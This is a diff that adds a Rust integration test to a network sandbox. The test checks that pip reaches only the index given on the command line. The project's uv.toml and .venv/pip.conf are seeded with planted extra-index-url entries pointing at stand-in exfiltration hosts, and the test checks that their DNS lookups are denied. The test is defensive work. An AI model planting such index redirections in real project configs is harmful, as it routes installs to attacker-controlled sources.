@@ -1632,3 +1632,142 @@ fn the_environment_is_scrubbed() {
     }
     run.assert_exit(false, 0);
 }
+
+// ---------------------------------------------------------------------------------------
+// Python: the configured index is reachable, nothing else
+
+/// A wheel of `demo-pkg` 1.0.0 (one module) and its sha256 in hex.
+fn demo_wheel() -> (Vec<u8>, String) {
+    use sha2::Digest as _;
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let info = "demo_pkg-1.0.0.dist-info";
+    for (p, d) in [
+        ("demo_pkg/__init__.py", "VALUE = 1\n".to_string()),
+        (
+            &format!("{info}/METADATA") as &str,
+            "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0.0\n".to_string(),
+        ),
+        (
+            &format!("{info}/WHEEL"),
+            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+                .to_string(),
+        ),
+        (&format!("{info}/RECORD"), String::new()),
+    ] {
+        w.start_file(p, zip::write::SimpleFileOptions::default())
+            .expect("zip entry");
+        w.write_all(d.as_bytes()).expect("zip write");
+    }
+    let bytes = w.finish().expect("zip").into_inner();
+    let sha = sha2::Sha256::digest(&bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    (bytes, sha)
+}
+
+/// `pip install --index-url http://127.0.0.1:P/simple/` through `watch --block` reaches that
+/// index (named on the command line, as literal as `--allow-host`) and installs; a second
+/// local server named nowhere stays unreachable and the attempt is denied; the hosts the
+/// project's own `uv.toml` and `.venv/pip.conf` name (files an earlier run could have planted;
+/// `VIRTUAL_ENV` points at that `.venv`) are not allowed: their DNS queries are denied.
+#[test]
+fn pip_reaches_the_index_configured_outside_and_nothing_the_project_names() {
+    if !have_tools("pip_index", &["sh"]) {
+        return;
+    }
+    let Some(py) = turncoat_sandbox::detonate_python::find_python() else {
+        assert!(
+            std::env::var_os("TURNCOAT_TEST_REQUIRE_TOOLS").is_none(),
+            "no python3 and TURNCOAT_TEST_REQUIRE_TOOLS is set"
+        );
+        eprintln!("SKIPPED pip_index: no python3 interpreter");
+        return;
+    };
+    let world = World::new();
+    let index = Registry::start();
+    let other = Registry::start();
+    let (whl, sha) = demo_wheel();
+    let file = "demo_pkg-1.0.0-py3-none-any.whl";
+    let page = format!(
+        "<!DOCTYPE html><html><body><a href=\"/files/{file}#sha256={sha}\">{file}</a></body></html>"
+    );
+    {
+        let mut routes = index.routes.lock().unwrap();
+        routes.insert(
+            "/simple/demo-pkg/".into(),
+            ("text/html", Arc::new(page.into_bytes())),
+        );
+        routes.insert(
+            format!("/files/{file}"),
+            ("application/octet-stream", Arc::new(whl)),
+        );
+    }
+    other
+        .routes
+        .lock()
+        .unwrap()
+        .insert("/x".into(), ("text/plain", Arc::new(b"reached".to_vec())));
+    std::fs::write(
+        world.project().join("uv.toml"),
+        "extra-index-url = [\"https://planted-uv.exfil.invalid/simple/\"]\n",
+    )
+    .expect("uv.toml");
+    let venv = world.project().join(".venv");
+    std::fs::create_dir_all(&venv).expect("mkdir .venv");
+    std::fs::write(
+        venv.join("pip.conf"),
+        "[global]\nextra-index-url = https://planted-pip.exfil.invalid/simple/\n",
+    )
+    .expect("pip.conf");
+
+    let py = py.display().to_string();
+    const RESOLVE: &str = "import socket\nfor h in ('planted-uv.exfil.invalid', 'planted-pip.exfil.invalid'):\n    try: socket.getaddrinfo(h, 443)\n    except OSError: pass";
+    let script = format!(
+        "{py} -m pip install --no-deps --no-cache-dir --disable-pip-version-check --target site \
+         --index-url {}/simple/ demo-pkg && {py} -c \"{RESOLVE}\" && {py} -c \"import urllib.request as u; u.urlopen('{}/x', timeout=10)\"",
+        index.base(),
+        other.base()
+    );
+    let run = world.watch(
+        &["--block"],
+        &["sh", "-c", &script],
+        &[("VIRTUAL_ENV", path_str(&venv))],
+        Duration::from_secs(180),
+    );
+    let r = run.report();
+    assert!(
+        world.project().join("site/demo_pkg/__init__.py").is_file(),
+        "pip did not install from the configured index{r}\nindex log: {:?}",
+        index.requests()
+    );
+    let log = index.requests();
+    assert!(
+        log.iter().any(|l| l.starts_with("GET /simple/demo-pkg/"))
+            && log
+                .iter()
+                .any(|l| l.starts_with(&format!("GET /files/{file}"))),
+        "{log:?}{r}"
+    );
+    settle();
+    assert!(
+        other.requests().is_empty(),
+        "the project-named host was reached: {:?}{r}",
+        other.requests()
+    );
+    let other_port = format!(":{}", other.port);
+    assert!(
+        run.any(|e| field(e, "verdict") == "deny" && field(e, "target").contains(&other_port)),
+        "no denied event for the other host{r}"
+    );
+    for planted in ["planted-uv.exfil.invalid", "planted-pip.exfil.invalid"] {
+        let dns =
+            run.matching(|e| field(e, "event") == "dns" && field(e, "target").starts_with(planted));
+        assert!(!dns.is_empty(), "{planted} was not asked for{r}");
+        assert!(
+            dns.iter().all(|e| field(e, "verdict") == "deny"),
+            "{planted}, named only by a project file, was allowed{r}"
+        );
+    }
+    assert_eq!(run.code(), Some(1), "{r}");
+}
